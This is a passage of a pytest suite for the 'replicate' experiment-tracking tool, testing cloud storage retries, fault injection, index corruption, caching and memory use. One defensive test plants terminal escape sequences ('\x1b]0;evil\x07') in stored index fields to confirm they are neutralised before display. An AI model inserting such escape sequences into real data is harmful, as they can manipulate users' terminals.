def test_a_ca_bundle_and_a_profile_with_an_endpoint_are_used(s3_bucket, tmp_path, monkeypatch):
    """A store behind TLS with a certificate of its own, as MinIO often is, all of it configured in a profile."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.oid.NameOID.COMMON_NAME, "loopback")])
    now, day = datetime.datetime.utcfromtimestamp(time.time()), datetime.timedelta(days=1)
    certificate = x509.CertificateBuilder(name, name, key.public_key(), 1, now - day, now + day).add_extension(
        x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]), False).add_extension(
        x509.BasicConstraints(True, None), True).sign(key, hashes.SHA256())
    pem = tmp_path / "loopback.pem"
    encoding = serialization.Encoding.PEM
    pem.write_bytes(key.private_bytes(encoding, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()) +
                    certificate.public_bytes(encoding))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(str(pem))
    sample(s3_bucket)
    server = s3_bucket.proxy.server
    server.socket = context.wrap_socket(server.socket, server_side=True)
    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_DEFAULT_REGION", "AWS_ENDPOINT_URL"):
        monkeypatch.delenv(name)
    (tmp_path / "home/.aws").mkdir()
    (tmp_path / "home/.aws/credentials").write_text("[lab]\naws_access_key_id = LABKEY\naws_secret_access_key = s\n")
    (tmp_path / "home/.aws/config").write_text("[profile lab]\nregion = eu-west-1\nendpoint_url = https://127.0.0.1:%d\n" %
                                               s3_bucket.proxy.port)
    refused = run("ls", "-q", env={"AWS_PROFILE": "lab"})
    assert refused.returncode == 1 and len(refused.stderr.splitlines()) == 1 and "SSL" in refused.stderr
    listed = run("ls", "-q", env={"AWS_PROFILE": "lab", "AWS_CA_BUNDLE": str(pem)})
    assert listed.returncode == 0 and len(listed.stdout.split()) == 2, listed.stderr
    signed = [request.headers["Authorization"] for request in s3_bucket.proxy.requests]
    assert signed and all("LABKEY" in words and "eu-west-1" in words for words in signed)


def record_file(project, size):
    """A checkpoint with `size` random bytes in the file "model"; the experiment has stopped."""
    (project / "model").write_bytes(os.urandom(size))
    with replicate.init(quiet=True) as experiment:
        return experiment.checkpoint(path="model", quiet=True)


def test_an_upload_that_the_store_forgot_is_no_missing_file(s3_bucket, project, hasty):
    """NoSuchUpload is a 404 too, and must not be taken for 'there are no files to send'."""
    failed = once(s3_bucket.proxy, lambda request: request.kind == "PART",
                  s3_bucket.proxy.refusal(404, "NoSuchUpload", "The specified upload does not exist"))
    checkpoint = record_file(project, 9 << 20)
    run("push")
    assert failed and s3_bucket.checkpoints()
    assert s3_bucket.files("checkpoints", checkpoint.id) == {"model": (project / "model").read_bytes()}


def test_an_upload_whose_last_answer_was_lost_is_complete(s3_bucket, project, hasty):
    """The SDK completes it a second time, and some servers then say that there is no such upload."""
    s3_bucket.create()
    (project / "model").write_bytes(os.urandom(9 << 20))
    answers = ["lost", s3_bucket.proxy.refusal(404, "NoSuchUpload", "The specified upload does not exist")]
    s3_bucket.proxy.rule = lambda request: answers.pop(0) if request.kind == "COMPLETE" and answers else None
    replicate.open_storage(s3_bucket.url).upload("model", "model")
    assert answers == [] and s3_bucket.get("model") == (project / "model").read_bytes()


@pytest.mark.parametrize("removed", ["experiment", "checkpoint"])
def test_what_is_removed_from_the_bucket_is_not_put_back(bucket, project, hasty, capsys, removed):
    experiment = replicate.init(quiet=True)
    checkpoint = save(experiment, 0)
    save(experiment, 1)
    until(lambda: len(bucket.checkpoints()) == 2)
    assert run("rm", "-f", experiment.id if removed == "experiment" else checkpoint.id).returncode == 0
    for step in (2, 3):
        save(experiment, step)
        experiment.stop()
    if removed == "experiment":
        assert "was removed" in capsys.readouterr().err and bucket.keys() == ["repository.json"]
    else:
        assert bucket.steps() == [1, 2, 3] and "checkpoints/%s.tar.gz" % checkpoint.id not in bucket.keys()
    assert pending_leftovers(project) == []


@pytest.mark.parametrize("at_once", [False, True])
def test_a_misspelt_bucket_is_created_and_said_loudly(bucket, hasty, capsys, at_once):
    """At once: the answer to the creation is lost, and the second try meets the bucket that the first has made."""
    taken = bucket.proxy.refusal(409, "BucketAlreadyOwnedByYou", "You already own this bucket.")
    answers = ["lost", taken] if at_once else [None]
    bucket.proxy.rule = lambda request: answers.pop(0) if request.kind == "CREATE" and answers else None
    assert not bucket.exists()
    experiment = replicate.init(quiet=True)
    experiment.stop()
    assert bucket.exists() and answers == [] and [item["id"] for item in bucket.documents()] == [experiment.id]
    assert at_once or "Created the bucket %s, which did not exist" % bucket.bucket in capsys.readouterr().err


# Faults on the wire.

def test_nothing_is_lost_or_doubled_where_a_third_of_the_requests_fail(bucket, project, hasty, tmp_path, monkeypatch):
    monkeypatch.setattr(replicate.CloudStorage, "ATTEMPTS", 30)  # so that the test itself does not fail once in a while
    bucket.create()
    dice, failures, contents = random.Random(7), [], {}

    def rule(request):
        if dice.random() >= 0.3:
            return None
        failures.append(request)
        return dice.choice([bucket.proxy.refusal(500, "InternalError", "We encountered an internal error."),
                            bucket.proxy.refusal(503, "SlowDown", "Please reduce your rate."), "reset", "lost",
                            dice.choice([0, 10, 1000, 50000]) if request.kind == "GET" else "reset"])

    bucket.proxy.rule = rule
    with replicate.init(path="replicate.yaml", quiet=True) as experiment:
        while len(contents) < 8 or len(failures) <= 20:
            contents[len(contents)] = os.urandom(200000 if contents else 9 << 20)
            (project / "model").write_bytes(contents[len(contents) - 1])
            item = experiment.checkpoint(path="model", step=len(contents) - 1, quiet=True).id
            until(lambda: bucket.proxy.seen(prefix="checkpoints/" + item))  # noqa: B023
    while pending_documents(project):
        assert replicate.main(["push"]) == 0
    (document,) = bucket.documents()
    assert [item["step"] for item in document["checkpoints"]] == list(contents) == list(bucket.checkpoints().values())
    for item in document["checkpoints"]:
        assert replicate.main(["checkout", item["id"], "-o", str(tmp_path / item["id"])]) == 0
        assert tree(tmp_path / item["id"]) == {"model": contents[item["step"]], "replicate.yaml": (project / "replicate.yaml").read_bytes()}
    assert pending_leftovers(project) == []


def first_get(key):
    """Whether a request reads a key from its beginning."""
    return lambda request: request.kind == "GET" and request.key.endswith(key) and "=0-" in (request.range or "=0-")


def test_a_download_that_is_cut_off_goes_on_where_it_was(bucket, hasty):
    bucket.create()
    data = os.urandom(20 << 20)
    bucket.put("big", data)
    storage = replicate.open_storage(bucket.url)
    is_s3 = bucket.url.startswith("s3")
    cuts = once(bucket.proxy, lambda request: request.kind == "GET" and request.key == "big" and first_get("big")(request) is is_s3,
                5 << 20)
    entry, open_range = storage.pin("big")
    with open_range(0, len(data)) as stream:
        assert stream.read() == data
    requests = bucket.proxy.seen("GET", "big")
    starts = [int(re.match(r"bytes=(\d+)-\d+$", request.range).group(1)) for request in requests]
    assert len(cuts) == 1 and starts.count(0) == 1 and len(starts) >= 2, requests
    assert sum(request.served for request in requests) <= len(data) + (8 << 20)
    versions = {request.headers.get("If-Match", "").strip('"') or request.query.get("ifGenerationMatch") for request in requests}
    assert versions == {entry.version}
    if is_s3:
        assert 0 < starts[1] <= 5 << 20 and len(starts) == 2


def test_a_file_that_is_pruned_when_its_upload_begins_does_not_exist(bucket, tmp_path):
    bucket.create()
    source = replicate.DiskStorage(str(tmp_path / "pending"))
    source.write("checkpoints/x", b"data")
    with pytest.raises(replicate.DoesNotExist):
        replicate.copy_object(source, replicate.open_storage(bucket.url), "checkpoints/x",
                              lambda count: source.delete(["checkpoints/x"]))


def test_an_error_of_s3_whose_text_is_cut_off_is_asked_for_again(s3_bucket, hasty):
    s3_bucket.create()
    cuts = once(s3_bucket.proxy, first_get("nothing"), 5)
    with pytest.raises(replicate.DoesNotExist):
        replicate.open_storage(s3_bucket.url).open("nothing")
    assert cuts


def test_an_object_that_is_replaced_during_its_download_is_an_error(bucket, project, hasty, tmp_path, call):
    checkpoint = record_file(project, 9 << 20)
    key = "checkpoints/%s.tar.gz" % checkpoint.id
    cuts = once(bucket.proxy, first_get(key), 3 << 20)
    other = archive_bytes(checkpoint.id, {"model": os.urandom(9 << 20)})
    bucket.proxy.after = lambda request, status, headers, body: bucket.put(key, other) if request in cuts else None
    code, _, errors = call("checkout", checkpoint.id, "-o", str(tmp_path / "out"))
    assert cuts and code == 1 and "changed" in one_message(errors.replace("\n   │", "")), errors
    assert not (tmp_path / "out").exists()
    code, _, errors = call("checkout", checkpoint.id, "-o", str(tmp_path / "out"))
    assert code == 0 and len(list((tmp_path / "out").iterdir())) == 1


def test_a_document_that_is_replaced_while_it_is_read_is_read_again(bucket, hasty, call):
    furnish(bucket, experiment_document(A, user="before" * 3000))
    cuts = once(bucket.proxy, first_get(document_key(A)), 9000)
    bucket.proxy.after = lambda request, status, headers, body: put_documents(
        bucket, experiment_document(A, user="after" * 4000)) if request in cuts else None
    code, out, errors = call("show", "--json", "1e")
    assert code == 0 and errors == "" and json.loads(out)["user"] == "after" * 4000


def test_a_stalled_connection_is_given_up(bucket, monkeypatch, hasty, call):
    monkeypatch.setattr(replicate.CloudStorage, "TIMEOUT", 0.5)
    sample(bucket)
    stalls = once(bucket.proxy, lambda request: request.kind == "LIST", "stall")
    code, out, _ = call("ls", "-q")
    assert code == 0 and len(out.split()) == 2 and stalls


def test_a_server_that_cannot_be_reached_is_named_by_its_address_alone_once_it_was_tried_again(bucket, hasty, call):
    bucket.proxy.down()
    code, _, errors = call("ls")
    told, error = errors.splitlines(True)
    assert told == "═══╡ %s does not answer: trying again\n" % bucket.url
    reason = one_message(error).partition("cannot be reached: ")[2]
    assert code == 1 and "127.0.0.1:%d" % bucket.proxy.port in reason and "repository.json" not in reason
    assert reason.rstrip('".\n')[-1].isalnum() and not reason.endswith("...\n"), reason  # not cut


def test_the_tries_of_a_request_are_spread_over_seconds(bucket, monkeypatch):
    """A network that is away for a moment stops no checkout; boto3's standard mode tries five times within half a second."""
    pauses = []
    bucket.proxy.rule = lambda request: bucket.proxy.refusal(503)
    monkeypatch.setattr(time, "sleep", pauses.append)
    monkeypatch.setattr(random, "random", lambda: 0.5)
    monkeypatch.setattr(random, "uniform", lambda low, high: (low + high) / 2)
    with pytest.raises(replicate.ReplicateError, match="cannot be reached"):
        replicate.open_storage(bucket.url).stat("repository.json")
    assert len(pauses) == replicate.CloudStorage.ATTEMPTS - 1 and 3 < sum(pauses) < 10, pauses


@pytest.mark.parametrize("command, status", [(["ls"], 403), (["show", "1e"], 403), (["checkout", "1e"], 403), (["rm", "-f", "1e"], 403),
                                             (["ls"], 503)])
def test_a_refusal_is_one_sentence_and_tried_again_only_where_the_service_is_down(bucket, hasty, call, command, status):
    sample(bucket)
    bucket.proxy.rule = lambda request: bucket.proxy.refusal(status, message="Ben may not do that")
    code, out, errors = call(*command)
    assert code == 1 and out == "" and "Ben may not do that" in one_message(errors) and bucket.url in errors
    assert bucket.proxy.count() == (1 if status == 403 else replicate.CloudStorage.ATTEMPTS)


@pytest.mark.parametrize("command", [["ls"], ["ps"], ["show", "1e"], ["diff", "1e", "2e"], ["checkout", "1e"], ["rm", "-f", "1e"],
                                     ["push", "--from", "BUCKET", "-R", "file://repo"]], ids=lambda words: words[0])
def test_reading_a_missing_bucket_is_one_sentence_and_creates_none(bucket, call, command):
    code, out, errors = call(*[word.replace("BUCKET", bucket.url) for word in command])
    assert code == 1 and out == "", errors
    assert "no bucket" in one_message(errors) or command[0] == "push" and "no repository" in one_message(errors)
    assert bucket.url in errors and not bucket.exists() and bucket.proxy.count() <= 3
    assert not bucket.proxy.count("CREATE") and not bucket.proxy.count("PUT")
    with pytest.raises(replicate.DoesNotExist):
        replicate.experiments.list()


# Counted requests.

def kinds(proxy):
    """{kind: how many} of the requests."""
    return dict(collections.Counter(request.kind for request in proxy.requests))


@pytest.fixture
def shelf(new_place, project, monkeypatch):
    """An S3 repository in memory, used by the project; `shelf.fill(count)` adds experiments."""
    pytest.importorskip("boto3")
    made = Shelf()
    use_cloud(monkeypatch, AWS_ENDPOINT_URL=made.address)
    (project / "replicate.yaml").write_text("repository: s3://shelf\n")
    made.put("repository.json", b'{"version":1}')
    dice = random.Random(5)

    def fill(count):
        ids = ["%064x" % dice.getrandbits(256) for _ in range(count)]
        put_documents(made, *[experiment_document(item, params={"n": number}) for number, item in enumerate(ids)])
        return ids

    made.fill = fill
    yield made
    made.close()


@pytest.fixture
def fresh_machine(shelf, monkeypatch, tmp_path):
    """fresh_machine() makes this a machine that has never listed anything, forgets earlier requests, and returns its cache."""
    def fresh():
        shelf.clear()
        monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / uuid.uuid4().hex))
        return Path(os.environ["XDG_CACHE_HOME"])
    return fresh


@pytest.fixture
def small_index(monkeypatch):
    """A dozen documents are worth an index."""
    monkeypatch.setattr(replicate, "INDEX_MIN_STALE", 12)


def listed_params(call):
    code, out, errors = call("ls", "--json")
    assert code == 0 and errors == "", errors
    return {row["id"]: row["params"].get("n") for row in json.loads(out)}


@pytest.mark.parametrize("skew", [0, 3600, -3600])
def test_a_warm_listing_reads_only_what_changed_and_tells_what_runs(bucket, call, skew):
    """However the clocks differ, and however new the documents are: the store says which version of each it has, and when."""
    ids = ["%064x" % number for number in range(20)]
    furnish(bucket, *[experiment_document(item, params={"n": 0}) for item in ids])
    bucket.put("metadata/heartbeats/%s.json" % ids[0], b"what is in it does not matter")
    bucket.proxy.shift = skew
    assert len(listed_params(call)) == 20
    assert kinds(bucket.proxy) == {"LIST": 2, "GET": 21}  # experiments and heartbeats; repository.json and the documents
    bucket.proxy.clear()
    listed_params(call)
    assert kinds(bucket.proxy) == {"LIST": 2, "GET": 1} and bucket.proxy.seen("GET")[0].key == "repository.json"
    put_documents(bucket, *[experiment_document(item, params={"n": 1}) for item in ids[3:5]])
    bucket.remove(document_key(ids[7]))
    bucket.proxy.clear()
    assert listed_params(call) == {item: int(item in ids[3:5]) for item in ids if item != ids[7]}
    assert kinds(bucket.proxy) == {"LIST": 2, "GET": 3}
    assert call("ps", "-q")[1].split() == [ids[0]]
    assert "running" in call("show", ids[0])[1] and "stopped" in call("show", ids[1])[1]
    assert replicate.experiments.get(ids[0]).is_running() and not replicate.experiments.get(ids[1]).is_running()
    assert not bucket.proxy.seen("GET", "heartbeats")


def test_an_old_heartbeat_is_a_stopped_experiment(shelf, call):
    ids = shelf.fill(2)
    shelf.put("metadata/heartbeats/%s.json" % ids[0], b"{}", age=10)
    shelf.put("metadata/heartbeats/%s.json" % ids[1], b"{}", age=40)
    assert call("ps", "-q")[1].split() == [ids[0]]
    shelf.shift = -5000
    assert call("ps", "-q")[1].split() == [ids[0]]


def test_a_new_machine_lists_thousands_in_thirty_requests(shelf, call, fresh_machine):
    """Among them one for each 1,000 names."""
    ids = shelf.fill(2100)
    first = listed_params(call)
    assert len(first) == 2100 and shelf.count("PUT") == 1 and shelf.seen("PUT")[0].key == "index/rows-1.gz"
    fresh_machine()
    assert listed_params(call) == first
    assert shelf.count() <= 30 and kinds(shelf)["GET"] <= 2 and kinds(shelf)["LIST"] <= 3 + 1 and not shelf.count("PUT"), kinds(shelf)
    shelf.clear()
    assert listed_params(call) == first
    assert kinds(shelf)["GET"] == 1 and shelf.count() <= 20
    put_documents(shelf, *[experiment_document(item, params={"n": -1}) for item in ids[::100]])
    fresh_machine()
    found = listed_params(call)
    assert [item for item in ids if found[item] == -1] == ids[::100]
    assert kinds(shelf)["GET"] == 2 + 21 and not shelf.count("PUT")


@pytest.mark.parametrize("words", [["report", "-f", "n < 3"], ["prune", "--dry-run", "-f", "n < 3"], ["plot", "-n", "3"],
                                   ["ls", "-c", "id,~loss", "-f", "n < 3"]], ids=lambda words: words[0])
def test_a_command_reads_only_the_documents_of_the_experiments_that_it_is_about(shelf, call, words):
    ids = shelf.fill(9)
    put_documents(shelf, *[experiment_document(item, params={"n": number}, checkpoints=[
        checkpoint_document("%064x" % number, metrics={"loss": 1})]) for number, item in enumerate(ids)])
    call("ls")
    shelf.clear()
    assert call(*words)[0] == 0
    assert len(shelf.seen("GET", "metadata/experiments/")) == 3


def index_lines(shelf):
    """(ID, version, summary) of each line of the index."""
    lines = [line.split(b" ", 2) for line in gzip.decompress(shelf.objects["index/rows-1.gz"][0]).split(b"\n")]
    return [(item, version, json.loads(text)) for item, version, text in lines]


def index_of(lines):
    return b"\n".join(line if isinstance(line, bytes) else b" ".join([line[0], line[1], json.dumps(line[2]).encode()])
                      for line in lines)


NO_SUMMARIES = [b"[]", b"7", b"null", b"{", b"{}", b'"x"', b'{"id":5}', b"[" * 5000, b"\xff\xfe", b"NaN"]
SPOILED = {  # other contents for the index object
    "empty": lambda lines: b"",
    "not gzip": lambda lines: b"hello" * 1000,
    "truncated": lambda lines: gzip.compress(index_of(lines))[:-500],
    "trailing rubbish": lambda lines: gzip.compress(index_of(lines)) + b"rubbish",
    "other versions": lambda lines: [(item, b"0" * 32, dict(row, params={"n": -7})) for item, _, row in lines],
    "other IDs": lambda lines: [(item[::-1], version, dict(row, params={"n": -7})) for item, version, row in lines],
    "the ID of another": lambda lines: [(item, version, dict(row, id="f" * 64)) for item, version, row in lines],
    "wrong types": lambda lines: [b" ".join([item, version, NO_SUMMARIES[number % 10]])
                                  for number, (item, version, _) in enumerate(lines)],
    "no spaces": lambda lines: [item + version for item, version, _ in lines],
    "only the ID": lambda lines: [(item, version, {"id": row["id"]}) for item, version, row in lines],
    "fields missing": lambda lines: [(item, version, dict(list(row.items())[:-2])) for item, version, row in lines]}


def spoil_index(shelf, spoiled):
    shelf.put("index/rows-1.gz", spoiled if isinstance(spoiled, bytes) else gzip.compress(index_of(spoiled)))


@pytest.mark.parametrize("how", list(SPOILED))
def test_a_bad_index_never_shows_wrong_data(shelf, call, fresh_machine, small_index, how):
    shelf.fill(12)
    first = listed_params(call)
    lines = index_lines(shelf)
    assert len(lines) == 12 and lines[0][2]["id"] == lines[0][0].decode()
    spoil_index(shelf, SPOILED[how](lines))
    for _ in ("spoiled", "mended"):
        fresh_machine()
        assert listed_params(call) == first


def test_hostile_fields_in_the_index_break_nothing(shelf, call, fresh_machine, small_index):
    """Whoever can write the index can write documents too; but nothing in it may break a listing or reach the terminal raw."""
    ids = shelf.fill(24)
    listed_params(call)
    lines = index_lines(shelf)
    wrong = [5, [], {"a": {}}, "x", True, [[]], -1, "\x1b]0;x\x07"]
    spoil_index(shelf, [(item, version, dict({name: wrong[(number + at) % 8] for at, name in enumerate(row)}, id=row["id"]))
                        for number, (item, version, row) in enumerate(lines)])
    for arguments in (["ls"], ["ls", "--all"], ["ls", "--json"], ["ls", "-f", "n > 3", "--sort", "host"], ["show", ids[0]]):
        fresh_machine()
        code, out, errors = call(*arguments)
        assert code == 0 and "\x1b" not in out and "\x1b" not in errors and "unexpected" not in errors, (arguments, errors)
    spoil_index(shelf, [(item, version, dict(row, user="\x1b]0;evil\x07" + row["id"])) for item, version, row in lines])
    fresh_machine()
    code, out, errors = call("ls", "--all")
    assert code == 0 and "\x1b" not in out and "\x07" not in out and "\\x1b]0;evil" in out


def test_the_index_is_rewritten_only_when_a_tenth_is_out_of_date(shelf, call, fresh_machine):
    ids = shelf.fill(1100)

    def change(count):
        put_documents(shelf, *[experiment_document(item, params={"n": time.time()}) for item in ids[:count]])
        fresh_machine()
        listed_params(call)
        return shelf.count("PUT"), kinds(shelf)["GET"] - 2

    listed_params(call)
    assert change(104) == (0, 104)  # a hundred, but no tenth
    assert change(112) == (1, 112)
    assert change(0) == (0, 0)
    shelf.objects.clear()
    shelf.put("repository.json", b'{"version":1}')
    ids[:] = shelf.fill(90)
    assert change(0)[0] == 0  # less than a hundred


def test_a_reader_without_permission_to_write(shelf, call, fresh_machine, small_index):
    shelf.fill(15)
    shelf.rule = lambda request: shelf.refusal() if request.method in ("PUT", "POST", "DELETE") else None
    assert len(listed_params(call)) == 15  # which asserts that there is no message
    assert shelf.count("PUT") == 1 and "index/rows-1.gz" not in shelf.objects
    fresh_machine()
    assert len(listed_params(call)) == 15


def test_the_local_cache_is_private_and_may_go_at_any_time(shelf, call, fresh_machine):
    cache = fresh_machine()
    shelf.fill(50)
    first = listed_params(call)
    assert (cache / "replicate").stat().st_mode & 0o777 == 0o700
    (name,) = (cache / "replicate").iterdir()
    assert name.stat().st_mode & 0o077 == 0
    content = name.read_bytes()
    for bad in (b"", content[:1000], b"\0" * 1000, os.urandom(5000), content.replace(b" ", b""), b"\n" * 100,
                content.replace(b'"params"', b'"parans"'), re.sub(rb" \{", b" [{", content)):
        name.write_bytes(bad)
        assert listed_params(call) == first
    name.unlink()
    name.mkdir()
    assert listed_params(call) == first
    for content in (None, b"not a directory"):
        shutil.rmtree(cache)
        if content:
            cache.write_bytes(content)
        assert listed_params(call) == first
    cache.unlink()
    fill(cache, {"replicate/old%d" % number: b"x" for number in range(100)})
    listed_params(call)
    assert len(list((cache / "replicate").iterdir())) <= 64


def test_processes_that_list_at_once_share_the_cache(shelf, call, fresh_machine):
    cache = fresh_machine()
    ids = shelf.fill(40)
    with concurrent.futures.ThreadPoolExecutor(3) as threads:
        for done in threads.map(lambda _: run("ls", "-q"), range(3)):
            assert done.returncode == 0 and sorted(done.stdout.split()) == sorted(ids), done.stderr
    assert len(list((cache / "replicate").iterdir())) == 1
    shelf.clear()
    assert len(listed_params(call)) == 40 and kinds(shelf)["GET"] == 1


def test_documents_that_vanish_or_change_between_listing_and_reading(place, call, monkeypatch):
    ids = [hex_id("%de" % number) for number in range(1, 5)]
    furnish(place, *[experiment_document(item, user="before") for item in ids])
    list_entries, done = replicate.Repository.document_entries, []

    def list_and_meddle(repository, *arguments):
        entries = list_entries(repository, *arguments)
        if not done:
            done.append(repository)
            place.remove(document_key(ids[0]))
            put_documents(place, experiment_document(ids[1], user="after"))
        return entries

    monkeypatch.setattr(replicate.Repository, "document_entries", list_and_meddle)
    for _ in range(2):
        code, out, errors = call("ls", "--json")
        assert code == 0 and errors == "" and done
        assert {row["id"]: row["user"] for row in json.loads(out)} == {ids[1]: "after", ids[2]: "before", ids[3]: "before"}
    del done[:]
    put_documents(place, experiment_document(ids[0]))
    assert len(replicate.experiments.list()) == 3 and done


@pytest.mark.parametrize("machines", [1, 2])
def test_two_processes_that_record_into_one_experiment_lose_nothing(bucket, training, tmp_path, machines):
    """Also on one machine, where only one of them has the usual pending area."""
    experiment = replicate.init(quiet=True)
    experiment.stop()
    scripts = []
    for number in range(2):
        machine = tmp_path / ("machine%d" % (number % machines))
        machine.mkdir(exist_ok=True)
        (machine / "replicate.yaml").write_text("repository: %s\n" % bucket.url)
        scripts.append(training("""
            replicate.FOLD_INTERVAL = 0.02
            experiment = replicate.experiments.get(os.environ["ITEM"])
            first = int(os.environ["FIRST"])
            for step in range(first, first + 12):
                save(step, "model%d.bin" % first)
                if step == first:
                    wait("both record")
                time.sleep(0.02)
            experiment.stop()
            """, cwd=machine, env={"ITEM": experiment.id, "FIRST": str(100 * number)}))
    for script in scripts:
        script.expect("both record")
    for script in scripts:
        script.go()
    for script in scripts:
        script.end()
    assert bucket.steps() == list(range(12)) + list(range(100, 112))


# Much data.

def run_in_little_memory(script, *arguments, megabytes=150):
    """What a script prints that may take up so much memory."""
    done = run_script("import sys, replicate\n" + textwrap.dedent(script) + textwrap.dedent("""
        import resource
        try:  # ru_maxrss would count what the parent had before the exec
            print([line.split()[1] for line in open("/proc/self/status") if line.startswith("VmHWM")][0])
        except OSError:
            print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
        """), *arguments)
    *printed, kilobytes = done.stdout.splitlines()
    assert int(kilobytes) < megabytes << 10, done.stdout
    return printed


def test_memory_stays_small_while_half_a_gigabyte_is_pushed(bucket, project):
    """An archive that goes in many parts, and many that are just too small for that."""
    bucket.create()
    sizes = [1 << 29] + [(8 << 20) - 1000] * 24
    documents = [checkpoint_document("%064x" % number, path="model", step=number) for number in range(len(sizes))]
    root = Path(replicate.pending_repository(str(project), bucket.url).storage.root)
    write_repository(root, experiment_document(A, checkpoints=documents))
    (root / "checkpoints").mkdir()
    for item, size in zip(documents, sizes):
        with open(root / "checkpoints" / (item["id"] + ".tar.gz"), "wb") as file:
            file.truncate(size)
    bucket.proxy.sink = True
    run_in_little_memory("assert replicate.main(['push']) == 0")
    large = [request for request in bucket.proxy.requests if int(request.headers.get("Content-Length") or 0) > 1 << 20]
    assert bucket.proxy.count("PART") == sizes[0] >> 23 and len(large) == (sizes[0] >> 23) + 24
    assert len(bucket.checkpoints()) == len(sizes)


def test_memory_stays_small_while_half_a_gigabyte_is_checked_out(shelf, tmp_path):
    """Stored without compression, as it would be of weights; 2 GB would take a slow machine too long."""
    put_documents(shelf, experiment_document(A, checkpoints=[checkpoint_document(C, path="big")]))
    size = 1 << 29
    with open("/dev/zero", "rb") as zeros, tarfile.open(
            tmp_path / "archive", "w:gz", compresslevel=0, copybufsize=1 << 20) as archive:
        member = tarfile.TarInfo("%s/big" % C)
        member.size = size
        archive.addfile(member, zeros)
    with open(tmp_path / "archive", "rb") as file:
        archive = memoryview(mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ))
    shelf.put("checkpoints/%s.tar.gz" % C, archive)
    run_in_little_memory("assert replicate.main(['checkout', sys.argv[1], '-o', sys.argv[2]]) == 0", C, tmp_path / "out")
    assert (tmp_path / "out/big").stat().st_size == size
    assert sum(request.served for request in shelf.seen("GET", "checkpoints/")) <= len(archive) + (1 << 20)
    shutil.rmtree(tmp_path / "out")
    (tmp_path / "archive").unlink()


def test_rm_deletes_in_batches_and_by_exact_key(shelf, says):
    ids = ["%064x" % (number * 7919) for number in range(1, 1501)]
    put_documents(shelf, experiment_document(A, path=".", checkpoints=[
        checkpoint_document(item, step=number, path="m") for number, item in enumerate(ids)]), experiment_document(B))
    removed = ["checkpoints/%s.tar.gz" % item for item in ids] + ["experiments/%s.tar.gz" % A, "metadata/heartbeats/%s.json" % A]
    kept = ["checkpoints/%s.tar.gz.bak" % ids[0], "checkpoints/%064x.tar.gz" % 1, "experiments/%s.tar.gz2" % A]
    for key in removed + kept:
        shelf.put(key, b"x")
    says("rm", "-f", "1e")
    assert sorted(shelf.objects) == sorted(kept + ["repository.json", document_key(B)])
    batches = [request.deleted for request in shelf.seen("DELETE")]
    assert [len(batch) for batch in batches] == [1000, 502, 1]
    assert batches[-1] == [document_key(A)]  # the document goes last


# What is missing or wrong on the machine.

@pytest.mark.parametrize("scheme, module, package", [("s3", "boto3", "boto3"), ("gs", "google.cloud.storage", "google-cloud-storage")])
def test_a_missing_sdk_is_one_sentence(project, scheme, module, package):
    (project / "replicate.yaml").write_text("repository: %s://some-bucket\n" % scheme)
    source = "import sys\nsys.modules[%r] = None\nif %r != 'boto3': sys.modules['google'] = None\nimport replicate\n" % (module, module)
    done = run_script(source + "raise SystemExit(replicate.main(['ls']))", check=False)
    assert done.returncode == 1 and "pip install %s" % package in one_message(done.stderr) and "without it" in done.stderr
    done = run_script(source + "try:\n    replicate.init()\nexcept replicate.ReplicateError as error:\n    print(error)")
    assert "pip install %s" % package in done.stdout
    write_repository(project / "repo")
    done = run_script(source + "raise SystemExit(replicate.main(['ls', '-R', 'file://repo']))")
    assert "No experiments found" in done.stderr


@pytest.mark.parametrize("url, variable, value, words", [
    ("s3://some-bucket", "AWS_SHARED_CREDENTIALS_FILE", "missing", ["Unable to locate credentials", "s3://some-bucket"]),
    ("s3://some-bucket", "AWS_PROFILE", "nobody", ["nobody", "s3://some-bucket"]),
    ("gs://some-bucket", "GOOGLE_APPLICATION_CREDENTIALS", "missing.json", ["missing.json", "gs://some-bucket"]),
    ("gs://some-bucket", "GOOGLE_APPLICATION_CREDENTIALS", "../home", ["home: Is a directory", "gs://some-bucket"]),
    *[(url, "AWS_PROFILE", "", ["bucket"]) for url in ("s3://", "gs://a", "s3://bad_bucket!", "gs://../x", "s3://-x-")]])
def test_missing_credentials_and_bad_names_are_one_sentence(shelf, project, call, monkeypatch, url, variable, value, words):
    (project / "replicate.yaml").write_text("repository: %s\n" % url)
    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.delenv(name)
    monkeypatch.setenv(variable, value)
    code, _, errors = call("ls")
    assert code == 1 and [word for word in words if word not in one_message(errors)] == []
    with pytest.raises(replicate.ReplicateError, match=words[0]):
        replicate.init()
    assert shelf.requests == []


# ------------------------------------------------------------------------------------------------------------------
# 6  Archives: ignore rules, pack, unpack
# ------------------------------------------------------------------------------------------------------------------

PACKED_ID = "ab" * 32
PACKED_KEY = "checkpoints/%s.tar.gz" % PACKED_ID


def fill(directory, files):
    """Make files of {name: content} below a directory."""
    for name, content in files.items():
        path = os.path.join(os.fsencode(str(directory)), name if isinstance(name, bytes) else os.fsencode(name))
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as file:
            file.write(content)


def source_names(directory, path=".", **options):
    return [source.name for source in replicate.find_sources(str(directory), path, **options)]


def pack_tree(tmp_path, directory, path=".", compress=True, name="store"):
    """Save a directory in a repository, as recording does it at once and then in the background; returns the repository."""
    repository = replicate.Repository("file://%s" % (tmp_path / name))
    replicate.save_archive(repository.storage, "checkpoints", PACKED_ID, replicate.find_sources(str(directory), path))
    if compress:
        replicate.shrink_archive(repository.storage, "checkpoints", PACKED_ID)
    return repository


def archive_path(repository):
    return repository.storage.path(PACKED_KEY)


def read_archive(repository):
    """{name: content} through our own reader, with its errors translated as every command does it."""
    with replicate.reading_archive(repository, "checkpoints", PACKED_ID):
        return {member.name: b"".join([bytes(piece) for piece in pieces]) for member, pieces in
                repository.archive("checkpoints", PACKED_ID).files(lambda name: True, PACKED_ID)}


def read_one(repository, name):
